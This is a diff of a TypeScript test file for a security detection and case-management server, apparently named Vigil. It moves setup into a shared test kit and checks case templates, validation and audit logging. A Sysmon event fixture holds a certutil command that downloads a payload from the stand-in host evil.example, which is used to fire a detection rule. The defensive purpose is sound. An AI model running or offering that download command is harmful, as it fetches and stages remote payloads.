@@ -1,11 +1,9 @@
 import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
-import { mkdtempSync, rmSync, writeFileSync, mkdirSync } from 'node:fs';
-import { tmpdir } from 'node:os';
-import { join } from 'node:path';
 import { hashToken } from '../api/auth.js';
 import type { AuditEntry, CaseChangeEvent } from '../cases/types.js';
-import { startVigil, type RunningVigil } from './start.js';
+import type { RunningVigil } from './start.js';
+import { bearer, jsonClient, startTestServer, sysmonProcess, type TestServer } from './testing/kit.js';
 
 const TOKEN = 'test-admin-token-0123456789';
 const VIEWER = 'test-viewer-token-0123456789';
@@ -25,43 +23,19 @@ detection:
   condition: selection
 `;
 
-function sysmon(host: string, time: string, url: string): Record<string, unknown> {
-  return {
-    Event: {
-      System: {
-        Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } },
-        EventID: 1,
-        Channel: 'Microsoft-Windows-Sysmon/Operational',
-        Computer: host,
-        TimeCreated: { '#attributes': { SystemTime: time } },
-        EventRecordID: 4242,
-      },
-      EventData: {
-        Image: 'C:\\Windows\\System32\\certutil.exe',
-        CommandLine: `certutil.exe -urlcache -split -f ${url} payload.exe`,
-        User: 'CORP\\alice',
-        Hashes: `MD5=${MD5.toUpperCase()},SHA256=${SHA256.toUpperCase()},IMPHASH=00000000000000000000000000000000`,
-      },
-    },
-  };
-}
+const sysmon = (host: string, time: string, url: string): Record<string, unknown> => sysmonProcess({
+  host, time, recordId: 4242, image: 'C:\\Windows\\System32\\certutil.exe', commandLine: `certutil.exe -urlcache -split -f ${url} payload.exe`,
+  data: { Hashes: `MD5=${MD5.toUpperCase()},SHA256=${SHA256.toUpperCase()},IMPHASH=00000000000000000000000000000000` },
+});
 
-let dir: string;
+let server: TestServer;
 let vigil: RunningVigil;
-const auth = { authorization: `Bearer ${TOKEN}` };
+const auth = bearer(TOKEN);
 const audit: AuditEntry[] = [];
 const changes: CaseChangeEvent[] = [];
 const linkedHook: { alertIds: number[]; caseId: number }[] = [];
 
-// JSON answers are read field by field; the assertions are the type checks.
-// eslint-disable-next-line @typescript-eslint/no-explicit-any
-async function call(method: string, path: string, body?: unknown, headers: Record<string, string> = auth): Promise<{ status: number; json: any; text: string; type: string | null }> {
-  const r = await fetch(`${vigil.url}${path}`, { method, headers, body: body === undefined ? undefined : JSON.stringify(body) });
-  const text = await r.text();
-  let json: unknown;
-  try { json = JSON.parse(text); } catch { json = undefined; }
-  return { status: r.status, json, text, type: r.headers.get('content-type') };
-}
+const call = jsonClient(() => vigil.url, auth);
 
 async function ingestAlert(host: string, time: string): Promise<number> {
   const r = await call('POST', '/api/v1/events', sysmon(host, time, 'http://evil.example/p.exe'));
@@ -74,25 +48,19 @@ async function ingestAlert(host: string, time: string): Promise<number> {
 }
 
 before(async () => {
-  dir = mkdtempSync(join(tmpdir(), 'vigil-cases-'));
-  mkdirSync(join(dir, 'rules'));
-  writeFileSync(join(dir, 'rules', 'certutil.yml'), RULE);
-  vigil = await startVigil({
-    dataDir: join(dir, 'data'), port: 0, rules: [join(dir, 'rules')],
-    env: { VIGIL_ADMIN_TOKEN: TOKEN }, log: () => {}, print: () => {},
+  server = await startTestServer('cases', {
+    adminToken: TOKEN, rules: { 'certutil.yml': RULE },
     cases: {
       audit: { record: (e) => { audit.push(e); } },
       onChange: (e) => { changes.push(e); },
       onAlertsLinked: (alertIds, caseId) => { linkedHook.push({ alertIds, caseId }); },
     },
   });
+  vigil = server.vigil;
   vigil.stores.tokens.add({ name: 'vera', hash: hashToken(VIEWER), role: 'viewer' });
 });
 
-after(async () => {
-  await vigil.close();
-  rmSync(dir, { recursive: true, force: true });
-});
+after(() => server.close());
 
 test('a case from the phishing template carries its fields and NIST-phased tasks', async () => {
   const templates = await call('GET', '/api/v1/case-templates');
@@ -302,8 +270,8 @@ test('validation errors answer 400 with the field; unknown cases 404; viewers re
 });
 
 test('without a sink given, case changes land in the hash-chained audit log', async () => {
-  const d = mkdtempSync(join(tmpdir(), 'vigil-cases-audit-'));
-  const v = await startVigil({ dataDir: join(d, 'data'), port: 0, rules: [join(dir, 'rules')], env: { VIGIL_ADMIN_TOKEN: TOKEN }, log: () => {}, print: () => {} });
+  const other = await startTestServer('cases-audit', { adminToken: TOKEN, rules: { 'certutil.yml': RULE } });
+  const v = other.vigil;
   try {
     const r = await fetch(`${v.url}/api/v1/cases`, { method: 'POST', headers: auth, body: JSON.stringify({ title: 'Audited', tlp: 'red' }) });
     assert.equal(r.status, 201);
@@ -316,7 +284,6 @@ test('without a sink given, case changes land in the hash-chained audit log', as
     assert.deepEqual([upd.before, upd.after], [{ status: 'open' }, { status: 'in-progress' }]);
     assert.equal(v.audit.verify().ok, true);
   } finally {
-    await v.close();
-    rmSync(d, { recursive: true, force: true });
+    await other.close();
   }
 });
